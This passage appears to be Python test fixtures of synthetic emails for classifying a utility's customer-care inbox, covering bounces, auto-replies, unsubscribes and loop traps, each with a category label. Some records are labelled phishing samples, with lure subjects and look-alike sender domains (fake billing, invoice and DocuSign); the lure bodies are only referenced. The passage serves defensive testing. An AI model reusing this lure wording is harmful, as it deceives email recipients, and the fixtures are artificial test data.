  env="ar@midwest-fleetparts.com", host="mail.midwest-fleetparts.com", ip="45.88.202.17",
  auth="dkim=none;\n\tspf=softfail (mx.alliant-energy.com: domain of transitioning ar@midwest-fleetparts.com does not designate 45.88.202.17 as permitted sender) smtp.mailfrom=ar@midwest-fleetparts.com;\n\tdmarc=none header.from=midwest-fleetparts.com",
  subject="INV-88213 Past Due - Remittance Required",
  hdrs=[("From", "@from"), ("To", "@to"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"), ("MIME-Version", "1.0"), ("@CT", None),
        ("X-Priority", "1 (Highest)")], part=phish_inv,
  cat="auto:phishing-attachment", note="Invoice phishing with an HTML credential-harvesting attachment: automated."),

A(dt="06-06 13:00:19", mb="cc", kind="mdn", ua="outlook", cl="outlook-mdn", orig="promoA", frm=("Lyle Brecht", "lbrecht@winneshiekcoop.com"),
  cat="auto:read-receipt", note="Outlook read receipt (disposition-notification) for the promotion: automated."),

A(dt="06-07 20:15:08", mb="cc", kind="generic", cl="spam-mailer", frm=("Costco Member Rewards", "rewards@rwd-costco-survey.top"),
  env="bounce-88172@mta3.rwd-costco-survey.top", host="mta3.rwd-costco-survey.top", ip="193.47.61.208",
  auth="dkim=none;\n\tspf=pass (mx.alliant-energy.com: domain of bounce-88172@mta3.rwd-costco-survey.top designates 193.47.61.208 as permitted sender) smtp.mailfrom=bounce-88172@mta3.rwd-costco-survey.top;\n\tdmarc=none header.from=rwd-costco-survey.top",
  subject="Congratulations! You’ve been selected – claim your $500 reward", scs="windows-1252", senc="Q",
  hdrs=[("From", "@from"), ("To", "@to"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"), ("MIME-Version", "1.0"), ("@CT", None),
        ("List-Unsubscribe", "<https://rwd-costco-survey.top/u>")], off=0,
  part=lambda rng: text(COSTCO, "html", charset="windows-1252", cte="quoted-printable", ct='text/html; charset="windows-1252"'),
  cat="auto:spam", note="Prize spam, HTML-only windows-1252, Q-encoded subject; has its own unsubscribe wording: automated."),

A(dt="06-08 08:02:44", mb="cc", kind="plain_auto", cl="zimbra-vacation", orig=bill("Lucía", "7730", "06-08 06:01:40", "64.30", "June 29, 2026"),
  to="customercare@alliant-energy.com", frm=("Lucía Bermúdez", "lbermudez@prairievalleycsd.org"), charset="iso-8859-1",
  subject="Fuera de la oficina / Out of office: Your Alliant Energy bill is ready", lang="es",
  xmailer="Zimbra 9.0.0_GA_4546 (zclient/9.0.0_GA_4546)",
  text="Gracias por su mensaje. Estoy fuera de la oficina durante las vacaciones de verano y regresaré el 10 de agosto. Si necesita ayuda inmediata, llame a la oficina del distrito al 319-555-0175.\n\nThank you for your message. I am out of the office for summer break and will return on August 10. For immediate help please call the district office at 319-555-0175.\n\nLucía Bermúdez\nELL Coordinator / Coordinadora de ELL\nPrairie Valley Community School District\n",
  cat="auto:ooo-headerless-bilingual", note="Bilingual vacation reply to a bill notice (went to its Reply-To, customercare) with no Auto-Submitted: automated."),

A(dt="06-08 16:45:30", mb="cc", kind="generic", cl="challenge-response", frm=("ClearSender", "verify@clearsender.net"),
  host="out2.clearsender.net", ip="64.62.190.14", dkim_dom="clearsender.net",
  subject="Please verify: your message to carl.wendt@wendtplumbing.com is on hold",
  hdrs=[("From", "@from"), ("To", "@to"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"),
        ("In-Reply-To", "<ack.CC-2026-06-00231.90346798@alliant-energy.com>"), ("MIME-Version", "1.0"), ("@CT", None)],
  part=lambda rng: text(CHALLENGE_TXT, charset="us-ascii", cte="7bit", ct="text/plain; charset=us-ascii"),
  cat="auto:challenge-response", note="Challenge-response verification triggered by our acknowledgement, no Auto-Submitted: automated, never answer."),

A(dt="06-09 07:31:14", mb="ph", kind="bounce_gmail", cl="gmail-dsn", orig="catalog", rcpt="sheltonfarmsupply@gmail.com",
  status="5.1.1", diag="smtp; 550-5.1.1 The email account that you tried to reach does not exist.",
  diag_text="550 5.1.1 The email account that you tried to reach does not exist. Please try double-checking the recipient's email address for typos or unnecessary spaces. For more information, go to https://support.google.com/mail/?p=NoSuchUser",
  cat="auto:bounce-gmail", note="Gmail DSN for the catalog e-mail; returned message contains the catalog's name-sharing footer."),

A(dt="06-09 07:32:09", mb="ph", kind="ooo_gmail", cl="gmail-vacation", orig="catalog", frm=("Nancy Thorsen", "nthorsen.quilts@gmail.com"),
  subject="Away at the lake until June 15",
  text="Thanks for your email! I'm at the lake until June 15 with spotty internet. If this is about a quilt order, I'll get back to you when I'm home.\n\n- Nancy\n",
  cat="auto:ooo-gmail-vacation", note="Gmail vacation responder (Auto-Submitted: auto-replied) to the catalog e-mail."),

A(dt="06-09 07:58:03", mb="ph", kind="unsub", kind2="iphone", cl="iphone-mail-unsubscribe", auto=False, frm=("Kristin Lampe", "klampe@icloud.com"),
  text="", labels=[MO], ent={},
  cat="sw-unsub:iphone-mail", note="iPhone Mail unsubscribe from the catalog e-mail: marketing opt-out (never a sharing opt-out); no Auto-Submitted."),

A(dt="06-09 10:02:44", mb="ph", kind="unsub", kind2="service", cl="mailstrom", auto=False, frm=("Joel Pfaff", "joel.pfaff@comcast.net"),
  midhost="mailstrom.co", extra=[("X-Mailer", "Mailstrom Unsubscribe"), ("Auto-Submitted", "auto-generated")],
  text="unsubscribe\n", labels=[MO], ent={}, ack=None,
  cat="sw-unsub:inbox-cleaner-autosubmitted", note="Inbox cleaner unsubscribing from the catalog e-mail with Auto-Submitted: opt-out, ack_to null."),

A(dt="06-09 15:20:33", mb="ph", kind="bounce_postfix", cl="postfix-own-mta", orig="catalog", host="mail.alliant-energy.com", ip="10.40.1.25",
  rcpt="kjpetersen@baldwin-telecom.net", status="4.4.1", delayed=True, subject="Delayed Mail (still being retried)", remote="mx1.baldwin-telecom.net",
  diag="X-Postfix; connect to mx1.baldwin-telecom.net[205.243.160.12]:25: Connection timed out",
  diag_text="connect to mx1.baldwin-telecom.net[205.243.160.12]:25: Connection timed out",
  cat="auto:dsn-delayed", note="Delay warning (Action: delayed) from our own MTA for the catalog e-mail."),

A(dt="06-09 21:05:19", mb="ph", kind="unsub", kind2="gmail", cl="gmail-unsubscribe", auto=False, frm=("Mallory Iverson", "mallory.iverson@gmail.com"),
  text="This message was automatically generated by Gmail.\n", labels=[MO], ent={},
  cat="sw-unsub:gmail", note="Gmail unsubscribe from the catalog e-mail: marketing opt-out only, ack the sender."),

A(dt="06-10 11:30:07", mb="cc", kind="generic", cl="crm-notification", frm=("RelayCRM", "notifications@relaycrm.io"),
  env="bounce+3k9q@mg.relaycrm.io", host="m228-14.mailgun.net", ip="159.135.228.14", dkim_dom="relaycrm.io", sel="mg",
  subject="Your scheduled export “Opt-outs & suppressions – weekly” is ready",
  hdrs=[("Mime-Version", "1.0"), ("@CT", None), ("Subject", "@subj"), ("From", "@from"), ("To", "@to"), ("Date", "@date"), ("Message-Id", "@mid"),
        ("Auto-Submitted", "auto-generated"), ("X-Auto-Response-Suppress", "OOF, AutoReply"), ("X-Mailgun-Sid", "WyI3ZTgxNyIsICJjdXN0b21lcmNhcmVAYWxsaWFudC1lbmVyZ3kuY29tIiwgIjRhYjIiXQ==")],
  off=0, midhost="relaycrm.io",
  part=alt_mail(CRM_TXT, "<html><body style=\"font-family:Inter,Arial\">" + paras_html(CRM_TXT.strip(), "<p>", "</p>", blank="") + "</body></html>\n"),
  cat="auto:vendor-crm-export", note="CRM scheduled-export notice about an 'Opt-outs & suppressions' file: system mail, automated."),

A(dt="06-11 07:10:52", mb="cc", kind="generic", cl="phish-lookalike", frm=("Alliant Energy Billing", "billing@alliantenergy-payments.com"),
  host="mail.alliantenergy-payments.com", ip="91.215.85.147", dkim_dom="alliantenergy-payments.com", sel="default",
  subject="Your payment could not be processed - update your card to avoid disconnection",
  hdrs=STD, part=alt_mail(PHISH_AE_TXT, "<html><body><div style=\"font-family:Arial\"><img src=\"https://alliantenergy-payments.com/logo.png\"><br>" + paras_html(PHISH_AE_TXT.strip(), "<p>", "</p>", blank="") + "</div></body></html>\n"),
  cat="auto:phishing-lookalike", note="Phishing impersonating our own billing from a look-alike domain: automated, no labels."),

A(dt="06-11 14:30:55", mb="cc", kind="unsub", kind2="yahoo", cl="yahoo-unsubscribe", auto=False, frm=("Donna Schwieger", "dschwieger@yahoo.com"),
  text="", labels=[MO], ent={},
  cat="sw-unsub:yahoo", note="Yahoo Mail unsubscribe sent to our mailto: empty body, no Auto-Submitted: opt-out, ack the sender."),

A(dt="06-12 10:10:25", mb="cc", kind="generic", cl="newsletter-esp", frm=("Grid Edge Weekly", "newsletter@gridedgeweekly.com"),
  env="bounce-mc.us21_88213.4417@mail184.suw121.mcdlv.net", host="mail184.suw121.mcdlv.net", ip="198.2.184.121", dkim_dom="gridedgeweekly.com", sel="k3",
  subject="Grid Edge Weekly: storm season playbooks, EV rate design, the DER backlog",
  hdrs=[("Subject", "@subj"), ("From", "@from"), ("Reply-To", "Grid Edge Weekly <editors@gridedgeweekly.com>"), ("To", "<customercare@alliant-energy.com>"),
        ("Date", "@date"), ("Message-ID", "@mid"), ("List-ID", "88213a7f0c1e4d2b9c3e1f08bmc list <88213a7f0c1e4d2b9c3e1f08b.4417.list-id.mcsv.net>"),
        ("List-Unsubscribe", "<https://gridedgeweekly.us21.list-manage.com/unsubscribe?u=88213a7f&id=4417>, <mailto:unsubscribe-mc.us21_88213.4417@unsubscribe.mailchimpapp.net?subject=unsubscribe>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("X-Mailer", "Mailchimp Mailer - **CID4417a1c2e3**"),
        ("Feedback-ID", "88213:88213a7f0c1e:us21:mc"), ("Mime-Version", "1.0"), ("@CT", None)],
  midfmt="4417a1c2e3b5d6f708192a3b4c5d.20260612151025", midhost="suw121.mcdlv.net",
  part=alt_mail(NEWS_TXT, "<html><body><table width=\"600\" align=\"center\"><tr><td style=\"font-family:Georgia\">" + paras_html(NEWS_TXT.strip(), "<p>", "</p>", blank="") + "</td></tr></table></body></html>\n"),
  cat="auto:newsletter", note="Industry newsletter we subscribe to (List-Unsubscribe, Precedence: bulk): automated."),

A(dt="06-12 15:15:41", mb="cc", kind="plain_auto", cl="webmail-autoresponder", orig=ack("CC-2026-06-00279", "06-12 15:15:02"),
  frm=("Jim Wagner", "jwagner@hickorycreekcoop.com"), charset="us-ascii", subject="Out of Office Re: We received your request [CC-2026-06-00279]",
  text="I am out of the office until Monday 6/15. For feed and seed orders please call the office at 563-555-0163.\n\nThanks,\nJim\n",
  cat="auto:ooo-loop-ack-headerless", note="LOOP TRAP: headerless out-of-office (no Auto-Submitted) answering our acknowledgement: automated."),

A(dt="06-14 11:35:59", mb="cc", kind="generic", cl="outreach-platform", frm=("Marcus Hale", "mhale@appendiq.io"),
  host="o3.email.appendiq.io", ip="167.89.101.33", dkim_dom="appendiq.io",
  subject="Re: suppression & opt-out list hygiene for Alliant Energy",
  hdrs=[("From", "@from"), ("To", "@to"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"), ("MIME-Version", "1.0"), ("@CT", None),
        ("X-Outreach-Sequence", "utility-q2-enterprise/step-2")],
  part=lambda rng: text(ENRICH_TXT, charset="utf-8", cte="quoted-printable", ct="text/plain; charset=utf-8"),
  cat="auto:cold-outreach-data", note="Cold data-vendor pitch with a fake 'Re:' and opt-out/do-not-share vocabulary: automated."),

A(dt="06-15 17:45:06", mb="cc", kind="bounce_qmail", cl="qmail", orig=ack("CC-2026-06-00297", "06-15 17:44:40"), host="mail.wctatel.net", ip="216.51.118.9",
  rcpt="rolstad@wctatel.net", diag_text="Sorry, no mailbox here by that name. (#5.1.1)",
  cat="auto:bounce-qmail-legacy", note="Legacy qmail bounce of our acknowledgement: no MIME-Version, returned ack text inline."),

A(dt="06-17 10:01:12", mb="cc", kind="bounce_postfix", cl="postfix-own-mta", orig="promoB", host="mail.alliant-energy.com", ip="10.40.1.25",
  rcpt="barb@kleinfamilyfarm.net", status="5.4.4", remote="kleinfamilyfarm.net",
  diag="X-Postfix; Host or domain name not found. Name service error for name=kleinfamilyfarm.net type=A: Host not found",
  diag_text="Host or domain name not found. Name service error for\n    name=kleinfamilyfarm.net type=A: Host not found",
  cat="auto:bounce-postfix", note="Our own MTA's DSN for the EV promotion: recipient domain does not exist."),

A(dt="06-17 10:03:30", mb="cc", kind="ooo_exchange", cl="exchange-online", orig="promoB", frm=("Patrick Doolan", "pdoolan@cornbeltins.com"),
  text="Thank you for your email. I am out of the office June 15-19 at the Big I Iowa convention with limited access to email. I will respond when I return on Monday, June 22.\n\nFor certificate requests or claims, please contact our office at 515-555-0129 or service@cornbeltins.com.\n\nPat Doolan, CIC\nCornbelt Insurance Services\n",
  cat="auto:ooo-autosubmitted", note="Out-of-office to the EV promotion, Auto-Submitted present."),

A(dt="06-17 10:20:08", mb="cc", kind="unsub", kind2="gmail", cl="gmail-unsubscribe", auto=False, frm=("Ethan Bruns", "ebruns.iowa@gmail.com"),
  text="This message was automatically generated by Gmail.\n", labels=[MO], ent={},
  cat="sw-unsub:gmail", note="Gmail unsubscribe from the EV promotion, no Auto-Submitted: opt-out, ack the sender."),

A(dt="06-17 13:30:21", mb="cc", kind="unsub", kind2="service", cl="unroll.me", auto=False, frm=("Cheryl McManus", "cheryl.mcmanus@aol.com"),
  midhost="unroll.me", extra=[("X-Mailer", "Unroll.Me"), ("Auto-Submitted", "auto-generated")],
  text="Please unsubscribe cheryl.mcmanus@aol.com from this mailing list.\n", labels=[MO], ent={}, ack=None,
  cat="sw-unsub:inbox-cleaner-autosubmitted", note="Unroll.Me-style cleaner with Auto-Submitted: marketing opt-out, ack_to null."),

A(dt="06-17 22:30:48", mb="cc", kind="generic", cl="phish-esign", frm=("DocuSign via Signing Service", "dse_na4@docusign-esign-review.com"),
  host="smtp.docusign-esign-review.com", ip="103.151.124.66",
  auth="dkim=none;\n\tspf=softfail (mx.alliant-energy.com: domain of transitioning dse_na4@docusign-esign-review.com does not designate 103.151.124.66 as permitted sender) smtp.mailfrom=dse_na4@docusign-esign-review.com;\n\tdmarc=none header.from=docusign-esign-review.com",
  subject="Alliant Energy Customer Care: Please DocuSign EV_Charger_Rebate_Agreement_2026.pdf",
  hdrs=STD, part=html_only(DOCUSIGN, cte="quoted-printable"),
  cat="auto:phishing-esign", note="Fake DocuSign lure themed on our own EV rebate: HTML-only phishing, automated."),

A(dt="06-18 11:40:14", mb="cc", kind="mdn", ua="thunderbird", cl="thunderbird-mdn", orig="promoB", frm=("Ruth Ellingson", "ruth.ellingson@gmx.com"),
  host="mout.gmx.com", ip="212.227.17.21",
  cat="auto:read-receipt", note="Thunderbird return receipt (MDN) for the EV promotion: automated."),

A(dt="06-20 16:00:27", mb="cc", kind="generic", cl="groups.io", frm=("Sara Lindgren via groups.io", "slindgren=cedarvalleyrec.coop@groups.io"),
  env="bounce+61200+418+6120047+1402331@groups.io", host="mail02.groups.io", ip="66.175.222.12", dkim_dom="groups.io", sel="20240825",
  subject="[iowa-utility-cs] Storm prep messaging - what are you sending this weekend?",
  hdrs=[("X-Received", "by 127.0.0.2 with SMTP id 4417p; " + "Sat, 20 Jun 2026 14:00:26 -0700"), ("From", "@from"), ("X-Original-From", "\"Sara Lindgren\" <slindgren@cedarvalleyrec.coop>"),
        ("To", "iowa-utility-cs@groups.io, customercare@alliant-energy.com"), ("Subject", "@subj"), ("Date", "@date"), ("Message-ID", "@mid"), ("MIME-Version", "1.0"),
        ("Precedence", "Bulk"), ("List-Subscribe", "<mailto:iowa-utility-cs+subscribe@groups.io>"), ("List-Help", "<mailto:iowa-utility-cs+help@groups.io>"),
        ("Sender", "iowa-utility-cs@groups.io"), ("List-Id", "<iowa-utility-cs.groups.io>"), ("Mailing-List", "list iowa-utility-cs@groups.io; contact iowa-utility-cs+owner@groups.io"),
        ("List-Post", "<mailto:iowa-utility-cs@groups.io>"), ("List-Owner", "<mailto:iowa-utility-cs+owner@groups.io>"),
        ("Reply-To", "iowa-utility-cs@groups.io,slindgren@cedarvalleyrec.coop"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("List-Unsubscribe", "<https://groups.io/g/iowa-utility-cs/leave/12877114/6120047/1402331578/xyzzy>"),
        ("@CT", None)],
  midfmt="CAPx4n8Lq2Wr7tY1mK9vB3cZ6hD0sF5gJ8eA", midhost="mail.gmail.com",
  part=lambda rng: text(LIST2_TXT, charset="utf-8", cte="quoted-printable", ct="text/plain; charset=utf-8"),
  cat="auto:list-post", note="groups.io list post (our box also in To) about storm messaging and opt-out wording: list traffic, automated."),

A(dt="06-22 09:00:33", mb="cc", kind="ooo_exchange", cl="exchange-online", orig=ack("CC-2026-06-00341", "06-22 08:59:51"),
  frm=("Facilities Requests", "facilities@dubuqueprecast.com"), subject="Automatic reply: We received your request [CC-2026-06-00341]",
  text="This mailbox is no longer monitored. Please submit facilities and maintenance requests through the service portal at https://portal.dubuqueprecast.com or call extension 4410.\n",
  cat="auto:no-longer-monitored-loop", note="LOOP TRAP: 'no longer monitored' auto-reply (Auto-Submitted) to our acknowledgement."),

A(dt="06-23 15:30:00", mb="cc", kind="bounce_ndr", cl="outlook.com-ndr", orig=ack("CC-2026-06-00352", "06-23 15:29:31"), rcpt="mike.dorsey1985@outlook.com",
  consumer=True, host="NAM12-BN8-obe.outbound.protection.outlook.com", status="5.5.0", code="550 5.5.0",
  diag="Remote server returned '550 5.5.0 Requested action not taken: mailbox unavailable (S2017062302)'", **NDR_NOTFOUND,
  cat="auto:bounce-outlook.com", note="Outlook.com NDR for one of our acknowledgements (bad address): automated."),

A(dt="06-24 10:20:42", mb="cc", kind="generic", cl="m365-calendar", frm=("Jenna Moravec", "jenna@kestrelcreative.co"),
  host="NAM04-DM6-obe.outbound.protection.outlook.com", ip="40.107.102.91", dkim_dom="kestrelcreative.co", sel="selector1",
  subject="Post-storm customer comms debrief",
  hdrs=[("From", "@from"), ("To", "\"customercare@alliant-energy.com\" <customercare@alliant-energy.com>"), ("Subject", "@subj"),
        ("Thread-Topic", "Post-storm customer comms debrief"), ("Thread-Index", "AdrlB7xkQ2m9Vf0rS6eJ1nCw4tYh3A=="), ("Date", "@date"),
        ("Message-ID", "@mid"), ("Accept-Language", "en-US"), ("Content-Language", "en-US"), ("X-MS-Has-Attach", ""),
        ("X-MS-TNEF-Correlator", ""), ("@CT", None), ("MIME-Version", "1.0")], off=0,
  midfmt="SA1PR14MB7360B4C2A9E8F3D1A24C9B7E6F5A4D3C2B1A", midhost="SA1PR14MB7360.namprd14.prod.outlook.com", part=cal_outlook,
  cat="auto:calendar-invite", note="Outlook/Teams meeting request (text/calendar, base64) from our agency: automated."),

A(dt="06-29 08:00:37", mb="cc", kind="unsub", kind2="service", cl="trimbox", auto=False, frm=("Ben Haugen", "ben.haugen@outlook.com"),
  midhost="trimbox.io", subject="Unsubscribe", extra=[("Auto-Submitted", "auto-generated"), ("X-Mailer", "Trimbox")],
  text="", labels=[MO], ent={}, ack=None,
  cat="sw-unsub:inbox-cleaner-autosubmitted", note="Inbox cleaner run days after the EV promotion, with Auto-Submitted: opt-out, ack_to null."),
]
